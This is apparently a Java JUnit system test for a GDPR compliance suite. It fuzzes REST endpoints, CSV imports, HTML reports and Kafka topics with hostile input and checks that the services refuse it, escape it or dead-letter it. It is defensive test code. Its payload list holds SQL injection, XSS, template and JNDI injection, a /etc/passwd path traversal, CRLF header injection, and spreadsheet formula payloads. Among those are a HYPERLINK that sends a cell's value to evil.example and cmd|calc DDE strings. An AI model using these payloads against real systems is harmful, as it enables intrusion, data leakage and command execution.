package org.gdprsuite.systemtest;

import java.io.IOException;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.gdprsuite.events.CloudEvent;
import org.gdprsuite.events.EventCodec;
import org.gdprsuite.events.EventType;
import org.gdprsuite.events.Topics;
import org.gdprsuite.events.payload.ConsentRecorded;
import org.gdprsuite.testsupport.DemoUser;
import org.gdprsuite.testsupport.KafkaProbe;
import org.gdprsuite.testsupport.Tokens;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.json.JsonMapper;

import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile input against every REST endpoint that takes a body and every inbound event topic, as
 * property-based tests (seeded random generators, a JUnit dynamic test per try): huge and deeply nested payloads, wrong types, unicode edge cases (NUL,
 * lone surrogates, right-to-left override, emoji), SQL/HTML/template injection, spreadsheet formulas.
 *
 * <p>Expected everywhere: no 5xx; a refusal is a problem+json 4xx (HTML pages: an escaped page) without a
 * stack trace and without the input echoed; a refused write changes nothing; what is accepted is stored
 * as the text it was; formulas are refused on import and neutralised on export; a bad event ends in its
 * topic's dead-letter topic and the partition carries on. Every generated text carries a marker
 * ({@code hx} + 8 letters) so that no service's log may be found holding one, nor logging an unexpected error.
 */
class HostileInputTest extends SystemTest {

    /** Bodies as JSON text, non-ASCII written as \\u escapes so that NUL and lone surrogates reach the services as such. */
    private static final JsonMapper JSON =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private static final Pattern MARKER = Pattern.compile("hx[a-z]{8}");
    private static final Pattern STACK_TRACE = Pattern.compile("Exception|\\bat [a-z]+\\.[\\w.$]+\\(|\\.java:\\d+");
    private static final String PROBE_KEY = "hostile-probe";
    /** Endpoints that act on every record at once (bulk updates, retention, global settings): not fuzzed with random bodies. */
    private static final Set<String> WIDE = Set.of(
            "POST /api/contacts/bulk-updates", "POST /api/contacts/retention/policies", "PUT /api/consents/settings");

    private static final List<String> KEYS = List.of(
            "firstName",
            "lastName",
            "email",
            "name",
            "type",
            "status",
            "title",
            "description",
            "nature",
            "subscriptions",
            "globalOptOut",
            "personIds",
            "purposeKey",
            "subscribed",
            "reason",
            "months",
            "reference",
            "dataCategories",
            "occurredAt",
            "awareAt",
            "likelihood",
            "severity",
            "text",
            "subject",
            "kind",
            "legalBasis",
            "id",
            "data",
            "specversion",
            "source",
            "time",
            "evidence",
            "consentRequired");
    private static final List<String> NASTY = List.of(
            "'; DROP TABLE person; --",
            "' OR '1'='1",
            "\" OR 1=1 --",
            "1); SELECT pg_sleep(0); --",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "</textarea><svg onload=alert(1)>",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "{#if true}x{/if}",
            "${jndi:ldap://127.0.0.1/x}",
            "../../../../etc/passwd",
            "\u0000",
            "a\u0000b",
            "\ud800",
            "\udc00x",
            "\u202Egnp.exe",
            "\u200F\u05D0\u05D1\u05D2",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\uD83C\uDDE9\uD83C\uDDEA",
            "\uFEFF",
            "\uFFFF",
            "Z\u0364\u0351\u0313a\u0308",
            "\r\nX-Injected: 1",
            "%0d%0aX-Injected: 1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "NaN",
            "null",
            "-0",
            "1e999",
            "x".repeat(70_000));
    private static final String FORMULA_START = "=+-@\t\r";

    /** Targets with a JSON body: "METHOD /path" to the role that may call it. */
    private static final Map<String, String> JSON_TARGETS = new LinkedHashMap<>();

    private static final Map<String, Integer> LOG_START = new HashMap<>();
    private static final Set<String> MARKERS = ConcurrentHashMap.newKeySet();
    private static UUID probePerson;
    private static String probeIncident;
    private static String probeRequest;

    /** Each try draws from its own seed, named in the test's name: {@code -Dhostile.seed=N} replays a run. */
    private static final long SEED = Long.getLong("hostile.seed", System.nanoTime());

    @BeforeAll
    static void probes() {
        suite.serviceNames().forEach(s -> LOG_START.put(s, suite.log(s).length()));
        String email = uniqueEmail("hostile.probe");
        probePerson = createPerson("Hostile", "Probe", email, Map.of());
        probeIncident = as(DemoUser.SALES)
                .contentType(ContentType.JSON)
                .body(Map.of(
                        "title",
                        "Probe",
                        "nature",
                        List.of("CONFIDENTIALITY"),
                        "description",
                        "A probe of the hostile-input test",
                        "awareAt",
                        Instant.now().toString()))
                .when()
                .post("/api/incidents")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
        probeRequest = as(DemoUser.SUPPORT)
                .contentType(ContentType.JSON)
                .body(Map.of("type", "RECTIFICATION", "email", email))
                .when()
                .post("/api/requests")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
        Map<String, AuthorizationMatrixTest.Operation> operations = AuthorizationMatrixTest.operations();
        for (AuthorizationMatrixTest.Row row : AuthorizationMatrixTest.table()) {
            AuthorizationMatrixTest.Operation operation = operations.get(row.key());
            if (operation != null
                    && "application/json".equals(operation.bodyType())
                    && !row.isPublic()
                    && !WIDE.contains(row.key())) {
                JSON_TARGETS.put(
                        row.key(),
                        row.roles().stream()
                                .filter(r -> !r.equals("dpo") && !r.equals("admin"))
                                .findFirst()
                                .orElse(row.roles().iterator().next()));
            }
        }
    }

    @AfterAll
    static void noServiceLoggedAnUnexpectedErrorOrTheInput() {
        catalogue();
        List<String> found = new ArrayList<>();
        for (String service : suite.serviceNames()) {
            String log = suite.log(service).substring(LOG_START.get(service));
            if (log.contains("Unexpected error while handling a request")) {
                found.add(service + " logged an unexpected error:\n"
                        + excerpt(log, log.indexOf("Unexpected error while handling")));
            }
            Matcher marker = MARKER.matcher(log);
            while (marker.find()) {
                if (MARKERS.contains(marker.group())) {
                    found.add(service + " logged input: " + excerpt(log, marker.start()));
                    break;
                }
            }
        }
        assertEquals(List.of(), found);
    }

    // ------------------------------------------------------------------ REST bodies

    @TestFactory
    Stream<DynamicTest> anyBodyToAnyEndpointIsAnsweredWithoutAServerErrorOrAnEcho() {
        return tries(
                150, hostile -> anyBodyToAnyEndpoint(hostile.pick(List.copyOf(JSON_TARGETS.keySet())), hostile.body()));
    }

    private static void anyBodyToAnyEndpoint(String target, String body) {
        String[] methodAndPath = target.split(" ", 2);
        String path = methodAndPath[1]
                .replace(
                        "{id}",
                        target.contains("/incidents/")
                                ? probeIncident
                                : target.contains("/requests/") ? probeRequest : probePerson.toString())
                .replace("{personId}", probePerson.toString())
                .replaceAll("\\{[^}]+}", PROBE_KEY);
        Response response = caller(JSON_TARGETS.get(target))
                .contentType(ContentType.JSON)
                .body(body)
                .request(methodAndPath[0], path);
        assertClean(target, response);
    }

    @TestFactory
    Stream<DynamicTest> textOfAPersonIsStoredAsItIsOrRefusedWithoutATrace() {
        return tries(80, hostile -> personText(hostile.markedText(), hostile.markedText()));
    }

    private static void personText(String firstName, String city) {
        String email = uniqueEmail("hostile");
        Response created = as(DemoUser.SALES)
                .contentType(ContentType.JSON)
                .body(json(Map.of("firstName", firstName, "lastName", "Probe", "email", email, "city", city)))
                .when()
                .post("/api/contacts/persons");
        assertClean("POST /api/contacts/persons", created);
        if (created.statusCode() == 201) {
            Response read = as(DemoUser.SALES).when().get("/api/contacts/persons/" + created.path("id"));
            assertEquals(200, read.statusCode());
            // Stored as sent, but for the surrounding white space every catalogued field drops.
            assertEquals(firstName.strip(), read.path("firstName"), "stored as it was sent");
            assertEquals(city.strip(), read.path("city"), "stored as it was sent");
        } else {
            assertTrue(
                    created.statusCode() == 400 || created.statusCode() == 413 || created.statusCode() == 422,
                    "refused as the caller's mistake: " + created.statusCode());
            assertEquals(
                    0,
                    as(DemoUser.SALES)
                            .queryParam("email", email)
                            .when()
                            .get("/api/contacts/persons")
                            .then()
                            .statusCode(200)
                            .extract()
                            .jsonPath()
                            .getList("items")
                            .size(),
                    "a refused person is not stored");
        }
    }

    @Test
    void aHugeBodyIsRefusedAsTooLarge() throws Exception {
        byte[] huge = ("{\"firstName\":\"" + "x".repeat(12 * 1024 * 1024) + "\",\"lastName\":\"Probe\"}")
                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
        for (String base : List.of(suite.gateway(), suite.url("contact-service"))) {
            // Refused before the body is sent: the answer comes instead of the 100 Continue.
            ExpectContinueCall call = ExpectContinueCall.post(
                    base + "/api/contacts/persons", Tokens.of(DemoUser.SALES), "application/json", huge);
            assertEquals(413, call.status(), base);
            assertFalse(STACK_TRACE.matcher(call.body()).find(), base);
        }
        // What callers meet is the gateway's answer, a problem like every other error.
        ExpectContinueCall call = ExpectContinueCall.post(
                suite.gateway() + "/api/contacts/persons", Tokens.of(DemoUser.SALES), "application/json", huge);
        assertEquals("application/problem+json", call.contentType());
        assertTrue(call.body().contains("\"status\":413"), call.body());
    }

    @Test
    void deeplyNestedJsonIsRefusedAsInvalid() {
        String deep = "{\"firstName\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";
        for (String target :
                List.of("POST /api/contacts/persons", "POST /api/incidents", "POST /api/consents/decisions")) {
            String path = target.substring(target.indexOf(' ') + 1);
            Response response = as(DemoUser.SALES)
                    .contentType(ContentType.JSON)
                    .body(deep)
                    .when()
                    .post(path);
            assertEquals(400, response.statusCode(), target);
            assertClean(target + " (100,000 levels)", response);
        }
    }

    // ------------------------------------------------------------------ spreadsheets and pages

    @TestFactory
    Stream<DynamicTest> formulasAreRefusedOnImportAndNothingIsImported() {
        return tries(40, hostile -> formulaImport(hostile.formula()));
    }

    private static void formulaImport(String cell) {
        String email = uniqueEmail("formula");
        String csv = "firstName,lastName,email\r\n" + csvCell(cell) + ",Probe," + email + "\r\n";
        Response response = as(DemoUser.SALES)
                .contentType("text/csv")
                .body(csv)
                .queryParam("source", "hostile input")
                .queryParam("mode", "all-or-nothing")
                .when()
                .post("/api/contacts/imports");
        assertClean("POST /api/contacts/imports", response);
        // An accepted upload is a job: its end says whether the row was refused (REJECTED) or imported.
        String state =
                response.statusCode() != 202 ? null : awaitImport("/api/contacts/imports/" + response.path("id"));
        List<Object> imported = as(DemoUser.SALES)
                .queryParam("email", email)
                .when()
                .get("/api/contacts/persons")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("items");
        String trimmed = cell.strip();
        if (!trimmed.isEmpty() && "=@".indexOf(trimmed.charAt(0)) >= 0) {
            assertTrue(
                    response.statusCode() == 422 || "REJECTED".equals(state),
                    "a formula is refused: " + response.statusCode() + " " + state);
            assertEquals(0, imported.size(), "all rows or none");
        } else if ("COMPLETED".equals(state)) {
            assertEquals(1, imported.size());
        }
    }

    /** The state an import job ends in (at most a minute). */
    private static String awaitImport(String job) {
        for (int i = 0; i < 300; i++) {
            String state = as(DemoUser.SALES).get(job).then().extract().path("state");
            if (!"QUEUED".equals(state) && !"RUNNING".equals(state)) {
                return state;
            }
            try {
                Thread.sleep(200);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }
        throw new AssertionError("import " + job + " did not end");
    }

    @TestFactory
    Stream<DynamicTest> breachTextIsNeutralisedInTheCsvRegisterAndEscapedInTheHtmlReport() {
        return tries(30, hostile -> breachText(hostile.formulaOrMarkup()));
    }

    private static void breachText(String title) {
        Response reported = as(DemoUser.SALES)
                .contentType(ContentType.JSON)
                .body(json(Map.of(
                        "title",
                        title,
                        "nature",
                        List.of("CONFIDENTIALITY"),
                        "description",
                        title,
                        "awareAt",
                        Instant.now().toString())))
                .when()
                .post("/api/incidents");
        assertClean("POST /api/incidents", reported);
        if (reported.statusCode() != 201) {
            return;
        }
        String reference = reported.path("reference");
        String csv = as(DemoUser.DPO)
                .accept("text/csv")
                .when()
                .get("/api/incidents/register")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        CSVRecord row = csvRecords(csv).stream()
                .filter(r -> r.get("reference").equals(reference))
                .findFirst()
                .orElseThrow();
        for (String value : row.values()) {
            assertFalse(
                    !value.isEmpty() && FORMULA_START.indexOf(value.charAt(0)) >= 0,
                    "a cell a spreadsheet would run: " + value);
        }
        assertEquals(FORMULA_START.indexOf(title.charAt(0)) >= 0 ? "'" + title : title, row.get("title"));
        String page = as(DemoUser.DPO)
                .accept(ContentType.HTML)
                .when()
                .get("/api/incidents/" + reported.path("id") + "/authority-report")
                .then()
                .statusCode(200)
                .extract()
                .asString();
        assertEscaped(title, page);
    }

    @TestFactory
    Stream<DynamicTest> publicFormsAnswerHostileInputWithAnEscapedPage() {
        return tries(30, hostile -> publicForm(hostile.formulaOrMarkup(), hostile.random.nextBoolean()));
    }

    private static void publicForm(String text, boolean requestPortal) {
        Response response = requestPortal
                ? withFormOf("/public/requests")
                        .formParam("type", "ACCESS")
                        .formParam("email", text)
                        .formParam("details", text)
                        .when()
                        .post("/public/requests")
                : withFormOf("/public/incidents/report")
                        .formParam("description", text)
                        .formParam("noticedOn", text)
                        .formParam("contact", text)
                        .when()
                        .post("/public/incidents/report");
        assertTrue(response.statusCode() == 200 || response.statusCode() == 400, "answered " + response.statusCode());
        if (response.contentType().startsWith("application/problem+json")) {
            assertClean("public form", response); // text the database cannot store (NUL): refused before any page
            return;
        }
        assertTrue(response.contentType().startsWith("text/html"), response.contentType());
        assertFalse(STACK_TRACE.matcher(response.asString()).find(), "no stack trace");
        assertEscaped(text, response.asString());
    }

    // ------------------------------------------------------------------ events

    @Test
    void hostileEventsOnEveryInboundTopicEndInTheirDeadLetterTopicAndTheTopicCarriesOn() {
        List<String> topics = List.of(
                Topics.CONSENT_INBOUND,
                "contact.events",
                "consent.events",
                "dsr.commands",
                "dsr.replies",
                "notification.requests");
        Map<String, Set<String>> sent = new LinkedHashMap<>();
        Hostile hostile = new Hostile(SEED);
        List<String> bodies =
                IntStream.range(0, 12).mapToObj(i -> hostile.body()).collect(Collectors.toList());
        bodies.addAll(List.of(
                "",
                "not json",
                "{",
                "null",
                "[]",
                "{\"specversion\":\"1.0\",\"type\":\"consent.recorded\",\"data\":7}"));
        for (String topic : topics) {
            Set<String> keys = new java.util.LinkedHashSet<>();
            List<Map.Entry<String, String>> records = new ArrayList<>();
            for (String body : bodies) {
                String key = marker();
                keys.add(key);
                records.add(Map.entry(key, body));
            }
            KafkaProbe.send(suite.topic(topic), records);
            sent.put(topic, keys);
        }
        // After the bad ones, a good event on the same partitions is still applied.
        UUID person = createPerson("Carrie", "Onward", uniqueEmail("carrie.onward"), Map.of());
        awaitKnownToConsents(person);
        String granted = EventCodec.toJson(CloudEvent.of(
                "web-shop",
                EventType.CONSENT_RECORDED,
                person.toString(),
                new ConsentRecorded(
                        person,
                        NEWSLETTER,
                        "GRANTED",
                        "CONSENT",
                        Instant.now(),
                        "WEB_FORM",
                        "hostile-input-test",
                        null,
                        new ConsentRecorded.Evidence("198.51.100.7", "Mozilla/5.0", "probe"))));
        KafkaProbe.send(suite.topic(Topics.CONSENT_INBOUND), person.toString(), granted);
        eventually().until(() -> decision(person, NEWSLETTER));

        for (Map.Entry<String, Set<String>> topic : sent.entrySet()) {
            List<ConsumerRecord<String, String>> dead = KafkaProbe.readUntil(
                    suite.topic(Topics.deadLetter(topic.getKey())),
                    read -> read.stream()
                            .map(ConsumerRecord::key)
                            .collect(Collectors.toSet())
                            .containsAll(topic.getValue()),
                    Duration.ofSeconds(90));
            Set<String> missing = new java.util.TreeSet<>(topic.getValue());
            missing.removeAll(dead.stream().map(ConsumerRecord::key).collect(Collectors.toSet()));
            assertEquals(Set.of(), missing, "bad records of " + topic.getKey() + " not dead-lettered");
        }
    }

    // ------------------------------------------------------------------ generators

    /** {@code count} tries of {@code check}, each a dynamic test with a generator of its own seed. */
    private static Stream<DynamicTest> tries(int count, Consumer<Hostile> check) {
        return IntStream.range(0, count)
                .mapToObj(i -> DynamicTest.dynamicTest("try " + i + " (hostile.seed=" + (SEED + i) + ")", () -> {
                    newSubjectAddress(); // each try is another caller, with the real limits
                    check.accept(new Hostile(SEED + i));
                }));
    }

    /** Hostile values from a seed: text with every kind of character, wrong types, formulas, markup. */
    private static final class Hostile {

        private static final List<String> BROKEN = List.of(
                "",
                "{",
                "{\"firstName\":",
                "[",
                "\"\\ud800\"",
                "{\"a\":1,}",
                "{'a':1}",
                "{\"firstName\":\"x\",\"firstName\":7}",
                "\u0000",
                "{\"a\":" + "1".repeat(5000) + "}",
                "{\"a\":1e999999}",
                "{\"awareAt\":\"2026-13-45T99:99:99Z\"}");
        private static final List<String> FORMULA_STARTS = List.of(
                "=",
                "+",
                "-",
                "@",
                "\t=",
                "=HYPERLINK(\"http://evil.example\",\"x\")",
                "@SUM(A1)",
                "+49 30 1234567",
                "-42");
        private static final List<String> MARKUP_STARTS =
                List.of("<script>alert('", "\"><img src=x onerror=alert(", "<b>", "&lt;", "'\"<>");

        final Random random;

        Hostile(long seed) {
            random = new Random(seed);
        }

        <T> T pick(List<T> from) {
            return from.get(random.nextInt(from.size()));
        }

        /** A JSON document of hostile values and wrong types under the suite's field names, or no JSON at all. */
        String body() {
            return random.nextInt(7) == 0 ? pick(BROKEN) : json(value(3));
        }

        private Object value(int depth) {
            int kind = random.nextInt(depth == 0 ? 3 : 7);
            if (kind >= 3 && kind < 4) {
                List<Object> list = new ArrayList<>();
                IntStream.range(0, random.nextInt(5)).forEach(i -> list.add(value(depth - 1)));
                return list;
            }
            if (kind >= 4) {
                // Unknown keys come back as the names of the invalid fields (never their values): they carry no marker.
                Map<String, Object> map = new LinkedHashMap<>();
                for (int i = random.nextInt(7); i > 0; i--) {
                    String key = random.nextBoolean() ? pick(KEYS) : nasty();
                    map.put(key.length() > 200 ? key.substring(0, 200) : key, value(depth - 1));
                }
                return map;
            }
            return leaf();
        }

        private Object leaf() {
            return switch (random.nextInt(10)) {
                case 0 -> null;
                case 1, 2, 3, 4 -> markedText();
                case 5 -> random.nextInt();
                case 6 -> random.nextLong();
                case 7 ->
                    random.nextBoolean()
                            ? random.nextDouble() * 1e6
                            : Double.MAX_VALUE * (random.nextBoolean() ? 1 : -1);
                default -> random.nextBoolean();
            };
        }

        /** Hostile text led by a marker (so that an echo or a log line of it can be found). */
        String markedText() {
            StringBuilder marker = new StringBuilder("hx");
            IntStream.range(0, 8).forEach(i -> marker.append((char) ('a' + random.nextInt(26))));
            MARKERS.add(marker.toString());
            return marker + nasty();
        }

        private String nasty() {
            return switch (random.nextInt(3)) {
                case 0 -> pick(NASTY);
                case 1 -> anyChars(40); // any UTF-16 unit: NUL, controls, lone surrogates, RTL marks
                default -> fromChars("<>&\"'`=;\\%\u0000\u202E", 20);
            };
        }

        private String anyChars(int maxLength) {
            StringBuilder text = new StringBuilder();
            IntStream.range(0, random.nextInt(maxLength + 1)).forEach(i -> text.append((char) random.nextInt(0x10000)));
            return text.toString();
        }

        private String fromChars(String chars, int maxLength) {
            StringBuilder text = new StringBuilder();
            IntStream.range(0, random.nextInt(maxLength + 1))
                    .forEach(i -> text.append(chars.charAt(random.nextInt(chars.length()))));
            return text.toString();
        }

        /** A cell a spreadsheet would run, then hostile text. */
        String formula() {
            return pick(FORMULA_STARTS) + shortened(markedText());
        }

        /** Titles and form texts: formulas and markup, short enough for the fields, never blank. */
        String formulaOrMarkup() {
            return random.nextBoolean() ? formula() : pick(MARKUP_STARTS) + shortened(markedText()) + "</script>";
        }

        private static String shortened(String text) {
            return text.length() > 100 ? text.substring(0, 100) : text;
        }
    }

    // ------------------------------------------------------------------ checks

    private static void assertClean(String target, Response response) {
        int status = response.statusCode();
        String body = response.asString();
        assertTrue(status < 500, target + " answered " + status + ": " + excerpt(body, 0));
        if (status >= 400) {
            assertTrue(
                    String.valueOf(response.contentType()).startsWith("application/problem+json"),
                    target + " answered " + status + " as " + response.contentType());
            assertFalse(STACK_TRACE.matcher(body).find(), target + " showed internals: " + excerpt(body, 0));
            Matcher echo = MARKER.matcher(body);
            assertFalse(echo.find(), target + " echoed the input: " + excerpt(body, 0));
        }
    }

    /** Text with markup must not come back as markup: &lt; & &gt; &quot; &#39; only escaped. */
    private static void assertEscaped(String text, String page) {
        if (text.chars().anyMatch(c -> "<>\"".indexOf(c) >= 0)) {
            assertFalse(page.contains(text), "the page holds the input unescaped");
            assertFalse(page.contains("<script>alert('hx"), "the page holds the script");
            assertFalse(page.contains("<img src=x onerror=alert(hx"), "the page holds the element with its handler");
        }
    }

    private static RequestSpecification caller(String role) {
        return "integration".equals(role) ? asIntegration() : as(DemoUser.valueOf(role.toUpperCase()));
    }

    private static String marker() {
        String marker = "hx"
                + UUID.randomUUID()
                        .toString()
                        .replaceAll("[^a-f]", "")
                        .concat("abcdefgh")
                        .substring(0, 8);
        MARKERS.add(marker);
        return marker;
    }

    private static String csvCell(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    private static List<CSVRecord> csvRecords(String csv) {
        try {
            return CSVFormat.DEFAULT
                    .builder()
                    .setHeader()
                    .setSkipHeaderRecord(true)
                    .get()
                    .parse(new StringReader(csv))
                    .getRecords();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String excerpt(String text, int at) {
        int from = Math.max(0, at - 200);
        return text.substring(from, Math.min(text.length(), at + 800));
    }
}
